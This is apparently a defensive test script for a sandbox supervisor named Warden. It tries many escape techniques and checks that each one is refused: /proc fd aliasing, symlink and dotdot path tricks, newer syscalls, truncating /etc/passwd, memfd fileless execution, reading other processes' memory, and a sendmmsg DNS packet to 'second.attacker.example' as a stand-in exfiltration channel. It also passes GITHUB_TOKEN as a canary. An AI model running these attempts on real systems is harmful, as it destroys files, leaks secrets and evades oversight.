"""What attacker code tries first to get around Warden's supervisor, from
inside a supervised run. Prints one JSON line per attempt:
{"attempt": NAME, "escaped": bool, "detail": ...}. Each attempt must be
stopped by the supervisor (EPERM, the answer of a refused supervised call) or
by the kernel where the sandbox's design puts the refusal; anything else
counts as escaped, so the test cannot pass by accident. The test then checks
the store: every refused attempt is on the timeline under the name of what
it really touched.

    bypass.py RUN_DIR_MARKER    (a name under /run/warden the test looks for)
"""

import ctypes
import errno
import json
import os
import shutil
import socket
import struct
import subprocess
import sys

libc = ctypes.CDLL(None, use_errno=True)
MARKER = sys.argv[1] if len(sys.argv) > 1 else "bypass-marker"
AT_EMPTY_PATH = 0x1000
SYS_EXECVEAT = 322
SYS_MEMFD_CREATE = 319


def report(name, escaped, detail=""):
    print(json.dumps({"attempt": name, "escaped": bool(escaped), "detail": str(detail)[:300]}), flush=True)


def refused_with(name, fn, *codes):
    """`fn` must fail with one of `codes` (EPERM: the supervisor said no)."""
    try:
        detail = fn()
        report(name, True, "went through: %r" % (detail,))
    except OSError as e:
        report(name, e.errno not in codes, "%s (errno %d)" % (e, e.errno))


def in_child(fn):
    """Runs `fn` in a forked child (an exec replaces it); returns its errno as
    an OSError, or "ran" when the exec went through."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            fn()
            os.write(w, b"0")
        except OSError as e:
            os.write(w, str(e.errno).encode())
        os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    said = os.read(r, 16).decode()
    os.close(r)
    if said == "":
        return "ran"  # the exec replaced the child: it ran
    if said != "0":
        raise OSError(int(said), os.strerror(int(said)))
    return "returned"


# 1. Writes through aliases of a descriptor.
def alias_into_run_dir():
    fd = os.open("/run/warden", os.O_PATH | os.O_DIRECTORY)
    try:
        out = os.open("/proc/self/fd/%d/%s" % (fd, MARKER), os.O_WRONLY | os.O_CREAT, 0o600)
        os.write(out, b"x" * 4096)
        return "wrote"
    finally:
        os.close(fd)


def reopen_read_only_writable(through):
    def attempt():
        fd = os.open("/etc/passwd", os.O_RDONLY)
        try:
            os.open(through % fd, os.O_WRONLY | os.O_APPEND)
            return "reopened writable"
        finally:
            os.close(fd)

    return attempt


def symlink_from_scratch():
    link = "/tmp/to-etc"
    if not os.path.islink(link):
        os.symlink("/etc", link)
    os.open(link + "/warden-through-link", os.O_WRONLY | os.O_CREAT, 0o600)
    return "wrote"


def trailing_slash_follows():
    link = "/tmp/to-run"
    if not os.path.islink(link):
        os.symlink("/run", link)
    os.setxattr(link + "/", "user.warden", b"x", follow_symlinks=False)
    return "set"


def empty_path_is_the_working_directory():
    os.chdir("/run")
    try:
        AT_FDCWD = -100
        times = None
        if libc.utimensat(AT_FDCWD, b"", times, AT_EMPTY_PATH) != 0:
            e = ctypes.get_errno()
            raise OSError(e, os.strerror(e))
        return "touched /run"
    finally:
        os.chdir("/")


def dotdot_after_symlink():
    # /tmp/deep -> /run; /tmp/deep/../etc/x by the letter is /tmp/etc/x (scratch),
    # but the kernel walks the link first: /run/../etc/x is /etc/x.
    link = "/tmp/deep"
    if not os.path.islink(link):
        os.symlink("/run", link)
    os.open(link + "/../etc/warden-dotdot", os.O_WRONLY | os.O_CREAT, 0o600)
    return "wrote"


def newer_call():
    # fchmodat2 (Linux 6.6): a chmod the supervisor would not know to judge.
    if libc.syscall(452, -100, b"/etc/group", 0o777, 0) != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return "changed"


class open_how(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]


def openat2_write():
    # Its flags are in memory another thread could change after the warden
    # read them: the call is not offered at all.
    how = open_how(os.O_RDONLY, 0, 0)
    fd = libc.syscall(437, -100, b"/etc/passwd", ctypes.byref(how), ctypes.sizeof(how))
    if fd < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    os.close(fd)
    return "opened"


# 2. File system changes without an open.
def changes():
    return [
        ("mkdir", lambda: os.mkdir("/run/warden-dir")),
        ("mknod_fifo", lambda: os.mkfifo("/run/warden-fifo")),
        ("symlink", lambda: os.symlink("/tmp", "/run/warden-link")),
        ("truncate", lambda: os.truncate("/etc/passwd", 0)),
        ("chmod", lambda: os.chmod("/etc/group", 0o777)),
        ("unlink", lambda: os.unlink("/etc/os-release")),
        ("rename_out_of_scratch", rename_out),
        ("link_into_run", lambda: os.link("/tmp/warden-src", "/run/warden-hard")),
        ("bind_unix_socket", bind_socket),
    ]


def rename_out():
    with open("/tmp/warden-src", "w") as f:
        f.write("x")
    os.rename("/tmp/warden-src", "/run/warden-renamed")


def bind_socket():
    s = socket.socket(socket.AF_UNIX)
    s.bind("/run/warden-sock")


# 3. Programs run by another name.
def execveat_descriptor():
    fd = os.open("/bin/echo", os.O_PATH)
    argv = (ctypes.c_char_p * 3)(b"/usr/bin/python3", b"pretending", None)
    env = (ctypes.c_char_p * 1)(None)

    def go():
        if libc.syscall(SYS_EXECVEAT, fd, b"", argv, env, AT_EMPTY_PATH) != 0:
            e = ctypes.get_errno()
            raise OSError(e, os.strerror(e))

    return in_child(go)


def memfd_program(how):
    def attempt():
        fd = libc.syscall(SYS_MEMFD_CREATE, b"payload", 0)
        if fd < 0:
            raise OSError(ctypes.get_errno(), "memfd_create")
        with open("/bin/true", "rb") as f:
            os.write(fd, f.read())
        argv = (ctypes.c_char_p * 2)(b"/usr/bin/python3", None)
        env = (ctypes.c_char_p * 1)(None)

        def go():
            if how == "execveat":
                rc = libc.syscall(SYS_EXECVEAT, fd, b"", argv, env, AT_EMPTY_PATH)
            else:
                rc = libc.execve(("/proc/self/fd/%d" % fd).encode(), argv, env)
            if rc != 0:
                e = ctypes.get_errno()
                raise OSError(e, os.strerror(e))

        return in_child(go)

    return attempt


def copy_named_like_declared():
    shutil.copy("/bin/ls", "/tmp/python3")
    os.chmod("/tmp/python3", 0o755)
    return in_child(lambda: os.execv("/tmp/python3", ["/tmp/python3", "/"]))


# 4. The sandbox's first process and other unsupervised ones.
def unsupervised_processes():
    reached = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        with open("/proc/%s/status" % entry) as f:
            status = dict(line.split(":", 1) for line in f if ":" in line)
        filters = int(status.get("Seccomp_filters", "0").strip() or 0)
        if filters >= 2:
            continue  # under the notification filter: supervised
        try:
            fd = os.open("/proc/%s/mem" % entry, os.O_RDONLY)
            os.close(fd)
            reached.append(entry)
        except OSError as e:
            if e.errno not in (errno.EACCES, errno.EPERM):
                raise
    if reached:
        return "opened the memory of unsupervised process(es) %s" % reached
    raise OSError(errno.EACCES, "no unsupervised process is reachable")


def first_process_is_the_init():
    with open("/proc/1/cmdline", "rb") as f:
        first = f.read().split(b"\0")[0]
    if not first.endswith(b"warden-init"):
        return "PID 1 is %r" % first
    raise OSError(errno.EACCES, "PID 1 is warden-init")


# 5. Sockets the network namespace does not confine, and a second message.
def socket_family(family):
    def attempt():
        s = socket.socket(family, socket.SOCK_STREAM if family == 40 else socket.SOCK_RAW)
        s.close()
        return "opened"

    return attempt


def dns_query(name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00\x00\x01\x00\x01"


class sockaddr_in(ctypes.Structure):
    _fields_ = [("family", ctypes.c_ushort), ("port", ctypes.c_uint16), ("addr", ctypes.c_uint32),
                ("zero", ctypes.c_char * 8)]


class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.c_void_p),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]


def sendmmsg_second_message():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    keep = []

    def message(ip, port, payload):
        addr = sockaddr_in(socket.AF_INET, socket.htons(port), struct.unpack("I", socket.inet_aton(ip))[0], b"")
        buf = ctypes.create_string_buffer(payload, len(payload))
        iov = iovec(ctypes.cast(buf, ctypes.c_void_p), len(payload))
        keep.extend([addr, buf, iov])
        return msghdr(ctypes.cast(ctypes.pointer(addr), ctypes.c_void_p), ctypes.sizeof(addr),
                      ctypes.cast(ctypes.pointer(iov), ctypes.c_void_p), 1, None, 0, 0)

    msgs = (mmsghdr * 2)()
    msgs[0].hdr = message("127.0.0.1", 9, b"harmless")
    msgs[1].hdr = message("192.0.2.53", 53, dns_query("second.attacker.example"))
    n = libc.sendmmsg(s.fileno(), msgs, 2, 0)
    if n < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return "sent %d messages" % n


def main():
    refused_with("alias_into_run_dir", alias_into_run_dir, errno.EPERM)
    for through in ("/proc/self/fd/%d", "/dev/fd/%d", "/proc/thread-self/fd/%d"):
        refused_with("reopen_writable " + through.split("%")[0], reopen_read_only_writable(through), errno.EPERM)
    refused_with("symlink_from_scratch", symlink_from_scratch, errno.EPERM)
    refused_with("dotdot_after_symlink", dotdot_after_symlink, errno.EPERM)
    refused_with("trailing_slash_follows", trailing_slash_follows, errno.EPERM)
    refused_with("empty_path_is_the_working_directory", empty_path_is_the_working_directory, errno.EPERM)
    refused_with("newer_than_the_supervisor", newer_call, errno.ENOSYS)
    refused_with("openat2_flags_in_memory", openat2_write, errno.ENOSYS)
    for name, fn in changes():
        refused_with(name, fn, errno.EPERM)
    refused_with("execveat_descriptor", execveat_descriptor, errno.EPERM)
    refused_with("memfd_execveat", memfd_program("execveat"), errno.EPERM)
    refused_with("memfd_proc_self_fd", memfd_program("proc"), errno.EPERM)
    refused_with("copy_named_like_declared", copy_named_like_declared, errno.EPERM)
    refused_with("canary_in_arguments",
                 lambda: in_child(lambda: os.execv("/usr/bin/python3",
                                                   ["python3", "-c", "pass", os.environ["GITHUB_TOKEN"]])),
                 errno.EPERM)
    refused_with("unsupervised_processes", unsupervised_processes, errno.EACCES)
    refused_with("first_process_is_the_init", first_process_is_the_init, errno.EACCES)
    refused_with("vsock", socket_family(40), errno.EAFNOSUPPORT)
    refused_with("packet", socket_family(17), errno.EAFNOSUPPORT)
    refused_with("sendmmsg_second_message", sendmmsg_second_message, errno.EPERM)
    # The scratch is still the agent's own, aliases and all.
    with open("/tmp/own", "w") as f:
        f.write("x")
    fd = os.open("/tmp/own", os.O_RDONLY)
    os.close(os.open("/proc/self/fd/%d" % fd, os.O_WRONLY))
    os.rename("/tmp/own", "/tmp/own2")
    os.mkdir("/tmp/own-dir")
    os.symlink("/tmp/own2", "/tmp/own-link")
    null = os.open("/dev/null", os.O_RDONLY)
    os.close(os.open("/dev/fd/%d" % null, os.O_WRONLY))
    report("scratch_still_works", False)


if __name__ == "__main__":
    main()
